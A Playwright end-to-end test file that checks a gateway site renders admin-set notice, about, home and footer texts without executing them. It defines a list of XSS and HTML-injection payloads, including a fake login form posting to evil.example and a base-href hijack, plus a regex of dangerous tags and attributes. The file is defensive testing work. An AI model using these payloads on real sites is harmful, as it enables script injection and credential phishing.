import { expect } from '@playwright/test';
import { type RunningGateway, startGateway } from '../gateway.ts';
import { signIn } from '../sign-in.ts';
import { test } from '../test.ts';

let gateway: RunningGateway;
test.beforeAll(async () => {
  gateway = await startGateway();
});
test.afterAll(() => gateway.stop());

/** Attempts to make a text do more than be read. */
const ATTACKS = [
  '<script>window.hacked = 1</script>',
  '<img src="x" onerror="window.hacked = 2">',
  '<svg onload="window.hacked = 3"><use href="data:image/svg+xml,x"/></svg>',
  '<a href="javascript:window.hacked=4">link</a> [link](javascript:window.hacked=5)',
  '<iframe srcdoc="<script>parent.hacked = 6</script>"></iframe><object data="x"></object>',
  '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.hacked = 7">',
  '<style>body { display: none }</style><base href="https://evil.example"><meta http-equiv="refresh" content="0">',
  '<div class="mantine-Modal-root" id="root" data-path="x" style="position: fixed; inset: 0; z-index: 9999">over all</div>',
].join('\n\n');

test('texts of the site are shown as written and can not execute anything: notice once, home page, about, footer', async ({
  page,
  request,
}) => {
  const { stored } = await signIn(gateway.url);
  const set = (key: string, value: string) =>
    request.put(`${gateway.url}/api/option/`, {
      headers: { authorization: `Bearer ${(JSON.parse(stored) as { token: string }).token}` },
      data: { key, value },
    });
  await set('Notice', `**Maintenance** on Sunday\n\n${ATTACKS}`);
  await set('About', `# Who we are\n\n${ATTACKS}`);
  await set('HomePageContent', `<h2>Acme models</h2>${ATTACKS}`);
  await set('Footer', `<p>Acme <a href="https://example.com/terms">terms</a></p>${ATTACKS}`);
  await page.addInitScript(() => localStorage.setItem('language', 'en'));
  const isHarmless = async () => {
    expect(
      await page.evaluate(() => [
        (window as { hacked?: unknown }).hacked,
        ...[...document.querySelectorAll('.rich-text *')].flatMap((node) => [
          ...(/^(script|style|svg|math|iframe|object|form|input|button|base|meta)$/i.test(
            node.tagName,
          )
            ? [node.outerHTML]
            : []),
          ...[...node.attributes]
            .filter(
              ({ name, value }) =>
                /^(on|class|data-|srcdoc|formaction)/.test(name) || /javascript:/i.test(value),
            )
            .map(({ name, value }) => `${name}=${value}`),
        ]),
      ]),
    ).toEqual([undefined]);
  };

  await page.goto(gateway.url);
  const notice = page.getByRole('dialog', { name: 'Announcement' });
  await expect(notice.getByText('Maintenance')).toBeVisible();
  await expect(page.getByRole('heading', { name: 'Acme models' })).toBeAttached();
  await isHarmless();
  await notice.getByRole('button', { name: 'Close' }).click();
  await expect(notice).toBeHidden();
  // An element that tries to cover the window stays inside its own text.
  await page.getByRole('link', { name: 'Log in' }).click();
  await expect(page).toHaveURL(/\/login$/);
  await expect(page.getByRole('link', { name: 'terms' })).toHaveAttribute('target', '_blank');

  await page.goto(`${gateway.url}/about`, { waitUntil: 'networkidle' });
  await expect(page.getByRole('heading', { name: 'Who we are' })).toBeVisible();
  await expect(notice).toBeHidden();
  await isHarmless();

  // A new notice is shown again; an https URL is shown in a frame without access to the console.
  await set('Notice', 'It is over');
  await set('About', 'https://example.com/about');
  await page.reload();
  await expect(notice.getByText('It is over')).toBeVisible();
  const frame = page.locator('iframe');
  await expect(frame).toHaveAttribute('src', 'https://example.com/about');
  await expect(frame).toHaveAttribute('sandbox', /^(?!.*top-navigation)/);
});
